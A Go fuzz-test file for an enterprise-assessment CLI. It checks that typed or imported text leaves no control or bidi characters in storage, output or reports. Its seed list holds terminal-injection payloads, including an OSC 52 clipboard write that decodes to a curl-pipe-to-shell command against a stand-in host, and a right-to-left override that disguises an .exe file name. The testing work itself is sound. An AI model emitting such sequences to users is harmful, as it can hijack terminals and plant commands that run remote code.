package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"digilevel/model"
	"digilevel/storage"
)

// Fuzz targets of issue 9 item 6, one per text input path (enterprise
// fields, roster cells, notes): whatever is typed or imported, nothing
// stored holds a control or bidi-override character, and neither the CLI's
// output nor a rendered report (HTML, Markdown, XLSX text) emits one.

// hostileSeeds are the texts of the probe: OSC title and clipboard, CSI, C1,
// bidi overrides and isolates, zero-width only, invalid UTF-8.
var hostileSeeds = []string{
	"新乡市红旗机械有限公司",
	"红旗\x1b]0;pwned\x07机械",
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"公司\u202egpj.exe",
	"\u2067名\u2069",
	"\u200b\u200c\u200d",
	"名\xff\xfe",
	"名\u009b31m",
	"第一行\n第二行\t制表\r\n",
	"a\u2028b",
}

// fuzzDB is a database the fuzz iterations of one target share.
type fuzzDB struct {
	t    testing.TB
	path string
	dir  string // for rendered files
	n    int
}

func newFuzzDB(f *testing.F) *fuzzDB {
	return &fuzzDB{t: f, path: filepath.Join(f.TempDir(), "fuzz.db"), dir: f.TempDir()}
}

// run runs one command line on the database.
func (f *fuzzDB) run(stdin string, args ...string) (string, string, int) {
	var out, errb bytes.Buffer
	getenv := func(k string) string {
		if k == "DIGILEVEL_DB" {
			return f.path
		}
		return ""
	}
	code := run(f.t.Context(), args, streams{in: strings.NewReader(stdin), out: &out, err: &errb}, getenv)
	return out.String(), errb.String(), code
}

// nextCode is a new valid credit code.
func (f *fuzzDB) nextCode() string {
	f.n++
	body := fmt.Sprintf("91410700MA%07d", f.n)
	ch, err := model.CreditCodeCheckChar(body)
	if err != nil {
		f.t.Fatal(err)
	}
	return body + string(ch)
}

// store opens the database for a look at what is stored.
func (f *fuzzDB) store() *storage.DB {
	db, err := storage.Open(f.path, storage.Options{})
	if err != nil {
		f.t.Fatal(err)
	}
	return db
}

// safe fails when s holds a control or bidi-override character (newlines,
// CRLF line ends and tabs aside) or invalid UTF-8.
func safe(t testing.TB, what, s string) {
	t.Helper()
	if terminalSafe(s) != s {
		t.Fatalf("%s emits an unsafe character: %q", what, s)
	}
}

// storedSafe checks every string of v, as stored, at any depth.
func storedSafe(t testing.TB, what string, v any) {
	t.Helper()
	b, err := printJSONBytes(v)
	if err != nil {
		t.Fatal(err)
	}
	if again := model.DisplaySafeCopy(v); fmt.Sprintf("%#v", again) != fmt.Sprintf("%#v", v) {
		t.Fatalf("%s stores an unsafe character: %s", what, b)
	}
}

func printJSONBytes(v any) ([]byte, error) {
	var b bytes.Buffer
	err := printJSON(&b, v)
	return b.Bytes(), err
}

// renderReport renders an assessment's report in every text format and
// checks the output.
func (f *fuzzDB) renderReport(id string) {
	t := f.t
	out, errs, code := f.run("", "report", id, "--format", "md")
	if code != 0 {
		t.Fatalf("report md: %d %s", code, errs)
	}
	safe(t, "report md", out)
	dir := f.dir
	for _, format := range []string{"html", "xlsx"} {
		file := filepath.Join(dir, "r."+format)
		if _, errs, code := f.run("", "report", id, "--format", format, "-o", file); code != 0 {
			t.Fatalf("report %s: %d %s", format, code, errs)
		}
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if format == "html" {
			safe(t, "report html", string(data))
			continue
		}
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range x.GetSheetList() {
			rows, _ := x.GetRows(sheet)
			for _, r := range rows {
				safe(t, "report xlsx", strings.Join(r, "\t"))
			}
		}
		x.Close()
	}
}

func FuzzEnterpriseFields(f *testing.F) {
	for _, s := range hostileSeeds {
		f.Add(s, s, s)
		f.Add("新乡甲机械有限公司", "示例路 1 号", s)
	}
	db := newFuzzDB(f)
	f.Fuzz(func(t *testing.T, name, address, notes string) {
		db.t = t
		code := db.nextCode()
		out, errs, exit := db.run("", "enterprise", "add", "--name", name, "--code", code, "--batch", "1",
			"--industry", address, "--address", address, "--notes", notes, "--provider", name, "--contact", name+",,,")
		safe(t, "stdout", out)
		safe(t, "stderr", errs)
		st := db.store()
		e, err := st.Enterprise(code)
		st.Close()
		if exit != 0 {
			if exit != exitInput || err == nil {
				t.Fatalf("refused with exit %d, stored: %v", exit, err == nil)
			}
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		storedSafe(t, "enterprise", e)
		for _, args := range [][]string{{"enterprise", "show", code}, {"enterprise", "list"}, {"enterprise", "show", code, "--json"}} {
			out, errs, _ := db.run("", args...)
			safe(t, strings.Join(args, " "), out+errs)
		}
		id, errs, exit := db.run("", "assessment", "new", "--enterprise", code, "--kind", "baseline")
		if exit != 0 {
			t.Fatalf("assessment new: %s", errs)
		}
		db.renderReport(strings.TrimSpace(id))
	})
}

func FuzzRosterCells(f *testing.F) {
	for _, s := range hostileSeeds {
		f.Add(s, s)
		f.Add("新乡乙电机有限公司", s)
	}
	db := newFuzzDB(f)
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, cell, notes string) {
		db.t = t
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		code := db.nextCode()
		w.Write([]string{"企业名称", "统一社会信用代码", "批次", "地址", "联系人", "备注"})
		w.Write([]string{cell, code, "1", cell, cell, notes})
		w.Flush()
		file := filepath.Join(dir, "名单.csv")
		os.WriteFile(file, b.Bytes(), 0o600)
		out, errs, exit := db.run("", "enterprise", "import", file)
		safe(t, "stdout", out)
		safe(t, "stderr", errs)
		if exit != 0 && exit != exitInput {
			t.Fatalf("import exit %d: %s", exit, errs)
		}
		st := db.store()
		all, err := st.Enterprises()
		st.Close()
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range all {
			storedSafe(t, "imported enterprise", e)
		}
		out, errs, _ = db.run("", "enterprise", "list")
		safe(t, "enterprise list", out+errs)
		out, errs, _ = db.run("", "export", "--format", "csv")
		safe(t, "export csv", out+errs)
	})
}

func FuzzNoteText(f *testing.F) {
	for _, s := range hostileSeeds {
		f.Add(s)
	}
	db := newFuzzDB(f)
	code := db.nextCode()
	if _, errs, exit := db.run("", "enterprise", "add", "--name", "新乡甲机械有限公司", "--code", code, "--batch", "1"); exit != 0 {
		f.Fatal(errs)
	}
	out, errs, exit := db.run("", "assessment", "new", "--enterprise", code, "--kind", "baseline")
	if exit != 0 {
		f.Fatal(errs)
	}
	id := strings.TrimSpace(out)
	f.Fuzz(func(t *testing.T, note string) {
		db.t = t
		out, errs, exit := db.run("", "assessment", "note", id, "Q01", note)
		safe(t, "stdout", out)
		safe(t, "stderr", errs)
		if exit != 0 && exit != exitInput {
			t.Fatalf("note exit %d: %s", exit, errs)
		}
		st := db.store()
		a, err := st.Assessment(id)
		st.Close()
		if err != nil {
			t.Fatal(err)
		}
		storedSafe(t, "assessment", a)
		for _, args := range [][]string{{"assessment", "show", id}, {"assessment", "show", id, "--json"}, {"assessment", "audit", id}} {
			out, errs, _ := db.run("", args...)
			safe(t, strings.Join(args, " "), out+errs)
		}
		db.renderReport(id)
	})
}
